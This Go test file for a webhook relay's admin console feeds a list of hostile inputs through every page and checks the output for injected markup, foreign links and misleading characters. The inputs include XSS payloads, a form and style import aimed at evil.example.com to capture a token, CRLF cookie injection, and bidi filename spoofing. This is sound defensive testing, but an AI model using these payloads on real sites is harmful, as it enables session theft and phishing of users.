package console_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
	"unicode"

	"golang.org/x/net/html"

	"webhook-relay/shared/admin/console"
	"webhook-relay/shared/relay"
	"webhook-relay/shared/relay/access"
)

// attacks are texts from outside that would do harm if a page took them for anything but text.
var attacks = map[string]string{
	"a script":         `<script>alert("harm")</script>`,
	"an end of pre":    `</pre><img src=x onerror=alert("harm")>`,
	"an attribute":     `" onmouseover="alert('harm')" x="`,
	"a single quote":   `' onfocus='alert("harm")' autofocus '`,
	"an end of title":  `</title><svg onload=alert("harm")>`,
	"a comment":        `<!--><img src=x onerror=alert("harm")>-->`,
	"an entity":        `&lt;script&gt;alert("harm")&lt;/script&gt;`,
	"a form":           `<form action=https://evil.example.com/harm><input name=token>`,
	"a style":          `<style>@import "https://evil.example.com/harm"</style>`,
	"a link":           `javascript:alert("harm")`,
	"a base":           `<base href=https://evil.example.com/harm>`,
	"a template":       `{{.Harm}} ${harm} {%harm%} <%= harm %>`,
	"turned writing":   "harm \u202efdp.exe\u202c \u2066x\u2069 \u200f",
	"no width":         "ha\u200brm\ufeff\u00ad",
	"control":          "harm\x1b[31m\x07\x00\x7f",
	"no text":          "harm\xff\xfe\xc0\xaf",
	"lines":            "harm\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
	"a long line":      `{"harm":"` + strings.Repeat("x", 1<<20) + `"}`,
	"deep nesting":     strings.Repeat("[", 100_000) + "harm",
	"a long number":    `{"harm":` + strings.Repeat("9", 5000) + `}`,
	"JSON with markup": `{"harm":"</pre><script>alert(1)</script>","a":[1,{"<b>":2}]}`,
}

// cut returns the beginning of a text, as the ingress bounds it.
func cut(s string, n int) string { return s[:min(len(s), n)] }

// TestAttacks sends each attack in every place of an event that comes from outside, and looks at
// every page.
func TestAttacks(t *testing.T) {
	t.Parallel()
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t)
			r.fillPortal()
			id := "evt_attack"
			short := strings.ToValidUTF8(cut(attack, 200), "\ufffd")
			for _, tenant := range []string{"", "acme"} {
				r.record(relay.Event{
					ID: id + tenant, Source: "app", Tenant: tenant, Type: short,
					Trust: "unverified", Body: []byte(attack),
					Header: relay.Header{"content-type": "application/json", "x-attack": short},
				}, relay.Delivery{
					Endpoint: map[string]string{"": "shop", "acme": "acme/theirs"}[tenant],
					Status:   relay.Dead, Reason: relay.Exhausted, Attempts: 1,
					History: []relay.Attempt{{
						Number: 1, At: time.Now().UTC().Truncate(time.Millisecond),
						Outcome:    "failed_answer",
						StatusCode: 500, Error: short, Response: []byte(cut(attack, 1024)),
					}},
				})
			}
			r.put("", "/v1/tenants/evil", map[string]any{"name": cut(short, 100)})
			b := r.signedIn(access.Admin, "")
			b.post("/tokens", map[string][]string{"name": {cut(short, 90)}, "role": {"read"}})
			seen := false
			see := func(path string, a *httptest.ResponseRecorder) {
				if a.Code >= http.StatusInternalServerError {
					t.Errorf("%s: %d", path, a.Code)
				}
				if !strings.HasPrefix(a.Header().Get("Content-Type"), "text/html") {
					if a.Header().Get("Content-Disposition") == "" {
						t.Errorf("%s: a download that a browser may show", path)
					}
					return
				}
				body := a.Body.Bytes()
				if len(body) > 2<<20 {
					t.Errorf("%s: %d bytes", path, len(body))
				}
				checkMarkup(t, path, body)
				checkElements(t, path, body)
				checkCharacters(t, path, body)
				seen = seen || strings.Contains(path, id)
			}
			b.crawl(see)
			if !seen {
				t.Error("no page showed the event")
			}
			seen = false
			r.customer("acme", access.Capabilities...).crawl(see)
			if !seen {
				t.Error("no page of the portal showed the event")
			}
			// what is in the URL comes from outside too
			for _, query := range []string{
				"/events?type=%s&source=%[1]s&where=%[1]s&from=%[1]s", "/events?id=%s",
				"/dead?endpoint=%s",
				"/events?next=%s", "/sources/app?delivery=%s", "/sources/new?provider=%s",
				"/login?to=%s",
				"/replay?endpoint=%s", "/subscriptions/new?source=%s&endpoint=%[1]s", "/?said=%s",
				"/subscriptions/all/try?event=%s", "/tokens/tok_1/revoke?name=%s", "/listeners/lis_1/end?by=%s",
				"/endpoints/%s",
			} {
				path := fmt.Sprintf(query, escaped(cut(attack, 500)))
				see(path, b.get(path))
			}
		})
	}
}

// checkCharacters checks that what a page shows has no character that misleads. The value of a
// field is what will be sent, so it stays as it is.
func checkCharacters(t *testing.T, path string, body []byte) {
	t.Helper()
	check := func(s string) {
		for _, c := range s {
			if c != '\n' && c != '\t' && (unicode.IsControl(c) || unicode.Is(unicode.Cf, c)) {
				t.Errorf("%s: U+%04X in %.80q", path, c, s)
				return
			}
		}
	}
	for n := range parsed(t, body).Descendants() {
		if n.Type == html.TextNode && n.Parent.Data != "textarea" {
			check(n.Data)
		}
		for _, a := range n.Attr {
			if a.Key != "value" {
				check(a.Val)
			}
		}
	}
}

func escaped(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// known are the elements that pages have.
var known = map[string]bool{}

func init() {
	for _, name := range strings.Fields(`html head meta title link script body a header img span p b
		nav button form main h1 h2 section table thead tbody tr th td div code pre ul ol li dl dt dd
		details summary label small input select option textarea datalist svg rect line i br time
		dialog kbd progress fieldset legend`) {
		known[name] = true
	}
}

// checkElements checks that a page has no element but its own, and that its links are to itself or
// to the page of a provider.
func checkElements(t *testing.T, path string, body []byte) {
	t.Helper()
	for n := range parsed(t, body).Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("%s: a comment %q", path, n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !known[n.Data] {
			t.Errorf("%s: an element %s", path, n.Data)
		}
		for _, name := range []string{"href", "action", "src", "formaction"} {
			link := attribute(n, name)
			if strings.Contains(link, "evil.example.com/harm") && strings.HasPrefix(link, "http") ||
				n.Data == "form" && link != "" &&
					!strings.HasPrefix(link, console.Base) &&
					!strings.HasPrefix(link, console.PortalBase) {
				t.Errorf("%s: %s=%q", path, name, link)
			}
		}
	}
}
